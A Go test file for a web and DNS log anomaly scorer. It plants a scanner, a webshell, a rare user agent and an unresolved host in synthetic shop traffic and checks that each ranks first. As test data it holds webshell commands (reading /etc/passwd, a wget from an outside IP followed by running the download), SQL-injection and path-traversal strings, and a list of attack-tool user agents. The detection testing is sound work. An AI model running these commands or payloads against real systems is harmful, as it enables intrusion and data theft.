package score

import (
	"context"
	"fmt"
	"math/rand/v2"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/longtail/longtail/db"
	"github.com/longtail/longtail/engine/names"
	"github.com/longtail/longtail/engine/record"
	"github.com/longtail/longtail/engine/rules"
	"github.com/longtail/longtail/engine/subject"
)

// webWorkspace writes HTTP requests and DNS queries into a workspace the
// way the ingest stores them (engine/ingest's sink), without a parser.
type webWorkspace struct {
	t     testing.TB
	d     *db.DB
	l     *db.Loader
	batch *db.Batch
	lines int64
}

func newWebWorkspace(t testing.TB) *webWorkspace {
	d, err := db.Open(filepath.Join(t.TempDir(), "ws.db"), db.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { d.Close() })
	ctx := context.Background()
	l, err := d.NewLoader(ctx)
	if err != nil {
		t.Fatal(err)
	}
	src, err := l.StartSource(ctx, db.Source{Path: "web.log", Format: "test", Fingerprint: "web"})
	if err != nil {
		t.Fatal(err)
	}
	return &webWorkspace{t: t, d: d, l: l, batch: &db.Batch{Source: src.ID, Held: -1}}
}

// request stores an HTTP request once per subject it has.
func (w *webWorkspace) request(tm int64, client, method, host, target string, status int16, ua string) {
	var r record.Record
	r.ResetHTTP()
	path, query, _ := strings.Cut(target, "?")
	r.Time, r.Client, r.Method, r.Host, r.Path, r.Query = tm, []byte(client), []byte(method), []byte(host), []byte(path), []byte(query)
	r.Status, r.Bytes, r.UserAgent = status, 512, []byte(ua)
	in := w.l.Interner
	w.lines++
	detail, _ := subject.AppendHTTPDetail(nil, &r)
	ev := db.Event{Time: tm, Client: in.Client(r.Client), Answer: in.Answer(detail),
		Source: w.batch.Source, RCode: r.Status, TTL: int32(r.Bytes), Line: w.lines}
	for _, sub := range subject.Of(record.KindHTTP) {
		v, ok := sub.Append(nil, &r)
		if !ok {
			continue
		}
		ev.Name = in.Name(uint8(sub.Code), v, sub.RollUp)
		w.batch.Events = append(w.batch.Events, ev)
	}
	w.batch.Records++
	if len(w.batch.Events) >= 300_000 {
		w.flush()
	}
}

// flush writes the batch.
func (w *webWorkspace) flush() {
	w.batch.Lines = w.lines
	w.l.Interner.Flush(w.batch)
	if err := w.l.Write(context.Background(), w.batch); err != nil {
		w.t.Fatal(err)
	}
	w.batch = &db.Batch{Source: w.batch.Source, Held: -1}
}

// query stores a DNS query.
func (w *webWorkspace) query(tm int64, client, name string, rcode int16) {
	in := w.l.Interner
	w.lines++
	w.batch.Events = append(w.batch.Events, db.Event{Time: tm, Name: in.Name(uint8(subject.DNSName), []byte(name), names.RegisteredDomain),
		Client: in.Client([]byte(client)), Source: w.batch.Source, QType: 1, RCode: rcode, TTL: 60, Line: w.lines})
	w.batch.Records++
}

// done writes what was added and scores the workspace with rs.
func (w *webWorkspace) done(rs ...rules.Rule) *db.DB {
	w.load()
	w.rescore(rs...)
	return w.d
}

// load writes what was added.
func (w *webWorkspace) load() {
	w.flush()
	if err := w.l.Finish(context.Background()); err != nil {
		w.t.Fatal(err)
	}
}

func (w *webWorkspace) rescore(rs ...rules.Rule) {
	ctx := context.Background()
	if len(rs) > 0 {
		if _, _, err := w.d.PutRules(ctx, rs); err != nil {
			w.t.Fatal(err)
		}
	}
	if _, err := Run(ctx, w.d); err != nil {
		w.t.Fatal(err)
	}
}

// ranked is a subject's values (or groups) by stored score, highest first.
type rankedValue struct {
	name  string
	score db.Score
}

func ranked(t *testing.T, d *db.DB, code subject.Code, groups bool) []rankedValue {
	t.Helper()
	ctx := context.Background()
	type row struct {
		id   uint32
		name string
	}
	var rows []row
	sub := db.ScoreName
	if groups {
		sub = db.ScoreDomain
		ds, err := d.AllDomains(ctx, code)
		if err != nil {
			t.Fatal(err)
		}
		for _, g := range ds {
			rows = append(rows, row{g.ID, g.Name})
		}
	} else {
		ns, err := d.AllNames(ctx, code)
		if err != nil {
			t.Fatal(err)
		}
		for _, n := range ns {
			rows = append(rows, row{n.ID, n.Name})
		}
	}
	var out []rankedValue
	for _, r := range rows {
		sc, err := d.ScoreOf(ctx, sub, r.id)
		if err != nil {
			continue // known-good, or no score
		}
		out = append(out, rankedValue{r.name, sc})
	}
	slices.SortStableFunc(out, func(a, b rankedValue) int {
		if a.score.Score != b.score.Score {
			if a.score.Score > b.score.Score {
				return -1
			}
			return 1
		}
		return strings.Compare(a.name, b.name)
	})
	return out
}

// why is the reason of a value's signal ("" when it has none).
func (r rankedValue) why(signal string) string {
	for _, c := range r.score.Contribs {
		if c.Signal == signal {
			return c.Why
		}
	}
	return ""
}

const (
	day       = int64(86_400_000_000)
	minute    = int64(60_000_000)
	start     = int64(1_709_510_400_000_000) // 2024-03-04 00:00 UTC
	shop      = "www.shop.example"
	static    = "static.shop.example"
	scanner   = "203.0.113.66"
	shellUser = "198.51.100.23"
	shellPath = "/uploads/img_2231.php"
	rareAgent = "Microsoft BITS/7.8"
	dropHost  = "files.dropzone.example"
)

var browsers = []string{
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:123.0) Gecko/20100101 Firefox/123.0",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 14_3) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Safari/605.1.15",
	"Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Mobile/15E148 Safari/604.1",
	"Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Mobile Safari/537.36",
}

// webWorld is a week of a shop's web traffic: 40 clients browsing, who
// resolve the shop's names in the workspace's DNS, with a scanner, a
// webshell, a rare user agent and a host nobody resolved planted in it.
func webWorld(t *testing.T) *webWorkspace {
	w := newWebWorkspace(t)
	rng := rand.New(rand.NewPCG(11, 12))
	pages := []string{"/", "/index.html", "/cart", "/checkout", "/about", "/search", "/static/app.js", "/static/style.css", "/favicon.ico"}
	for i := range 15 {
		pages = append(pages, fmt.Sprintf("/products/%d", i+1))
	}
	for c := range 40 {
		client := fmt.Sprintf("10.0.0.%d", c+1)
		ua := browsers[c%len(browsers)]
		for s := range 8 {
			tm := start + rng.Int64N(7*day)
			w.query(tm, client, shop, 0)
			w.query(tm+1000, client, static, 0)
			w.query(tm+2000, client, fmt.Sprintf("news%d.example.org", rng.IntN(5)), 0)
			for r := range 6 {
				tm += rng.Int64N(minute)
				page := pages[rng.IntN(len(pages))]
				host, status := shop, int16(200)
				switch {
				case page == "/search":
					page += fmt.Sprintf("?q=%s&page=%d", []string{"shoes", "red+shirt", "gift"}[rng.IntN(3)], 1+rng.IntN(3))
				case strings.HasPrefix(page, "/static/"):
					host = static
				case page == "/favicon.ico":
					status = 404
				case s == 0 && r == 0:
					page += "?utm_source=newsletter&utm_medium=email&utm_campaign=spring"
				}
				w.request(tm, client, "GET", host, page, status, ua)
			}
		}
	}
	// The scanner: 400 paths in ten minutes on day 3, nearly all missing,
	// under a browser's user agent.
	probes := []string{"/.env", "/wp-login.php", "/admin/", "/phpmyadmin/", "/.git/config", "/backup.zip", "/server-status", "/config.php.bak"}
	for i := range 392 {
		probes = append(probes, fmt.Sprintf("/dir%03d/", i))
	}
	for i, p := range probes {
		status := int16(404)
		if i%20 == 0 {
			status = 403
		}
		w.request(start+3*day+int64(i)*1_500_000, scanner, "GET", shop, p, status, browsers[0])
	}
	w.request(start+3*day, scanner, "GET", shop, "/", 200, browsers[0])
	// The webshell: an upload, then commands posted to it on day 6.
	w.request(start+6*day, shellUser, "POST", shop, "/upload.php", 200, browsers[1])
	for i, cmd := range []string{"whoami", "id", "uname+-a", "cat+/etc/passwd", "ls+-la", "whoami", "ps+aux", "netstat+-an", "id", "wget+http://203.0.113.9/x", "chmod+%2Bx+x", "./x"} {
		w.request(start+6*day+int64(i+1)*minute, shellUser, "POST", shop, shellPath+"?cmd="+cmd, 200, browsers[1])
	}
	// A user agent one client used twice.
	w.request(start+4*day, "10.0.0.7", "GET", static, "/static/app.js", 200, rareAgent)
	w.request(start+4*day+minute, "10.0.0.7", "GET", static, "/static/app.js", 200, rareAgent)
	// A host reached without the workspace's DNS.
	for i := range 3 {
		w.request(start+5*day+int64(i)*minute, "10.0.0.12", "GET", dropHost, "/", 200, browsers[2])
	}
	return w
}

// The planted scanner, webshell, rare user agent and unresolved host each
// rank first in their subject's list, with the reason in words.
func TestWebAnomaliesRankFirst(t *testing.T) {
	d := webWorld(t).done()
	for _, c := range []struct {
		code          subject.Code
		groups        bool
		top, signal   string
		words         []string
		notOnTheOther string // a value that must not carry the signal
	}{
		{subject.HTTPClient, false, scanner, SigScanner, []string{"401 distinct paths", "400 asked by no other client", "95% of 401 answered requests were 404"}, "10.0.0.3"},
		{subject.HTTPPath, false, shellPath, SigQuery, []string{"12 of 12 requests look like attacks; the strongest carries shell words (cmd=)", `POST ?"cmd=whoami"`}, "/search"},
		{subject.HTTPAgent, false, rareAgent, SigRare, []string{"seen twice from 1 of 42 clients"}, browsers[0]},
		{subject.HTTPHost, false, dropHost, SigUnresolved, []string{"never resolved by any client in this workspace's DNS"}, shop},
		{subject.HTTPClient, true, "203.0.113.0/24", SigScanner, []string{scanner + ": 401 distinct paths"}, "10.0.0.0/24"},
		{subject.HTTPPath, true, "/uploads/", SigQuery, []string{shellPath + ": 12 of 12 requests look like attacks"}, "/products/"},
	} {
		list := ranked(t, d, c.code, c.groups)
		if len(list) == 0 {
			t.Fatalf("%s (groups %v): nothing scored", subject.Must(c.code).Title, c.groups)
		}
		top := list[0]
		why := top.why(c.signal)
		if top.name != c.top || why == "" {
			t.Errorf("%s (groups %v): first %q %+v, want %q with %s", subject.Must(c.code).Title, c.groups, top.name, top.score, c.top, c.signal)
			continue
		}
		for _, w := range c.words {
			if !strings.Contains(why, w) {
				t.Errorf("%s: %s reason %q lacks %q", c.top, c.signal, why, w)
			}
		}
		// Under MinExplained a signal's words are its brief ones: the
		// other value may have a trace of it, not a reason to look.
		for _, r := range list {
			if r.name == c.notOnTheOther && r.score.Score >= MinExplained && r.why(c.signal) != "" {
				t.Errorf("%s has a %s signal too: %+v", r.name, c.signal, r.score)
			}
		}
	}
	paths := ranked(t, d, subject.HTTPPath, false)
	for _, r := range paths {
		if r.name == "/.env" && !strings.Contains(r.why(SigScanner), "probed by "+scanner+", which looks like a scanner") {
			t.Errorf("a probed path does not name its scanner: %+v", r.score)
		}
		if r.name == shellPath && !strings.Contains(r.why(SigNew), "first seen 2024-03-10") {
			t.Errorf("the webshell, first seen on the last day, is not new: %+v", r.score)
		}
	}
	for _, r := range ranked(t, d, subject.HTTPClient, false) {
		if r.name == shellUser && !strings.Contains(r.why(SigQuery), `12 of 13 requests look like attacks; the strongest carries shell words (cmd=): POST ?"cmd=whoami", to `+shellPath) {
			t.Errorf("the webshell's user does not inherit its query signal: %+v", r.score)
		}
	}
}

// Known-good values leave the ranking and vouch for what they did: a
// client marked good is no scanner for the paths it asked.
func TestWebKnownGood(t *testing.T) {
	w := webWorld(t)
	w.done(rules.Rule{Kind: subject.HTTPAgent, Pattern: rareAgent, Scope: rules.Name, Verdict: rules.Good},
		rules.Rule{Kind: subject.HTTPClient, Pattern: scanner, Scope: rules.Name, Verdict: rules.Good},
		rules.Rule{Kind: subject.HTTPPath, Pattern: "/uploads/", Scope: rules.Domain, Verdict: rules.Good})
	d := w.d
	for _, c := range []struct {
		code   subject.Code
		groups bool
		gone   string
	}{{subject.HTTPAgent, false, rareAgent}, {subject.HTTPClient, false, scanner}, {subject.HTTPPath, false, shellPath}, {subject.HTTPPath, true, "/uploads/"}} {
		for _, r := range ranked(t, d, c.code, c.groups) {
			if r.name == c.gone {
				t.Errorf("known-good %s still scored: %+v", c.gone, r.score)
			}
		}
	}
	for _, r := range ranked(t, d, subject.HTTPPath, false) {
		if r.why(SigScanner) != "" {
			t.Errorf("%s probed by a known-good client: %+v", r.name, r.score)
		}
	}
}

func TestToolAgents(t *testing.T) {
	for ua, want := range map[string]string{
		"sqlmap/1.7.2#stable (https://sqlmap.org)":                                        "sqlmap: an attack tool",
		"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)": "nmap: an attack tool",
		"Mozilla/5.0 [en] (X11, U; OpenVAS 8.0.4)":                                        "openvas: an attack tool",
		"curl/8.4.0":             "curl: a command-line client",
		"python-requests/2.31.0": "python-requests: a command-line client",
		"Go-http-client/1.1":     "go-http-client: a command-line client",
		"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)": "the user-agent parser calls it a bot (Googlebot)",
		browsers[0]: "",
	} {
		st, why := toolOf(ua)
		if !strings.HasPrefix(why, want) || (want == "") != (st == 0) {
			t.Errorf("%q: %.1f %q, want %q", ua, st, why, want)
		}
	}
}

func TestQueryJudgement(t *testing.T) {
	var tj targetJudge
	for _, c := range []struct {
		path, query, word string
		min, max          float64
	}{
		{"/uploads/x.php", "cmd=whoami", "cmd=", 1, 1},
		{"/item.php", "id=1%20UNION/**/SELECT%20password%20FROM%20users", "union select", 1, 1},
		{"/view.php", "file=..%252f..%252fetc%252fpasswd", "../", 1, 1},
		{"/cgi-bin/../../etc/passwd", "", "../", 1, 1},
		{"/search", "q=how+to+select+a+union+rep&page=2", "", 0, 0},
		{"/search", "xcmd=1", "", 0, 0},
		{"/search", "q=curl+tutorial", "", 0, 0},
		{"/t.gif", "d=" + strings.Repeat("aGVsbG8gd29ybGQgZnJvbSBhIGJlYWNvbiA5", 20), "", 0.5, 0.8},
		{"/t.gif", "u=" + strings.Repeat("%E2%82%AC", 40), "", 0.3, 0.8},
	} {
		j := tj.query(c.query, tj.path(c.path))
		if j.word != c.word || j.strength < c.min || j.strength > c.max {
			t.Errorf("%s?%s: %q %.2f, want %q in [%.1f, %.1f]", c.path, c.query, j.word, j.strength, c.word, c.min, c.max)
		}
	}
}

// When most of the HTTP hosts are not in the workspace's DNS, the DNS is
// likely of another network: "never resolved" weighs little on each.
func TestUnresolvedWeighsLittleWhenMostHostsAre(t *testing.T) {
	w := newWebWorkspace(t)
	w.query(start, "10.0.0.1", shop, 0)
	for c, host := range []string{shop, "a.example", "b.example"} {
		w.request(start+int64(c)*minute+1000, "10.0.0.1", "GET", host, "/", 200, browsers[0])
	}
	for _, r := range ranked(t, w.done(), subject.HTTPHost, false) {
		for _, c := range r.score.Contribs {
			if c.Signal == SigUnresolved && c.Points > 10 {
				t.Errorf("%s: unresolved %.1f points with two hosts of three unresolved: %q", r.name, c.Points, c.Why)
			}
		}
	}
}

// Without DNS in the workspace no host is "never resolved": there is
// nothing to have resolved it.
func TestNoDNSNoUnresolved(t *testing.T) {
	w := newWebWorkspace(t)
	for c := range 6 {
		w.request(start+int64(c)*minute, fmt.Sprintf("10.0.0.%d", c+1), "GET", shop, "/", 200, browsers[0])
	}
	w.request(start+day, "10.0.0.1", "GET", "192.0.2.80:8080", "/x", 200, browsers[0])
	d := w.done()
	hosts := ranked(t, d, subject.HTTPHost, false)
	if len(hosts) != 2 {
		t.Fatalf("hosts %+v", hosts)
	}
	for _, r := range hosts {
		if r.why(SigUnresolved) != "" {
			t.Errorf("%s unresolved without DNS: %+v", r.name, r.score)
		}
	}
	// With a DNS query for the shop, the address stands out.
	w = newWebWorkspace(t)
	for c := range 6 {
		w.query(start+int64(c)*minute, fmt.Sprintf("10.0.0.%d", c+1), shop, 0)
		w.request(start+int64(c)*minute+1000, fmt.Sprintf("10.0.0.%d", c+1), "GET", shop, "/", 200, browsers[0])
	}
	w.request(start+day, "10.0.0.1", "GET", "192.0.2.80:8080", "/x", 200, browsers[0])
	hosts = ranked(t, w.done(), subject.HTTPHost, false)
	if hosts[0].name != "192.0.2.80:8080" || !strings.Contains(hosts[0].why(SigUnresolved), "an IP address") || hosts[1].why(SigUnresolved) != "" {
		t.Errorf("hosts %+v", hosts)
	}
}
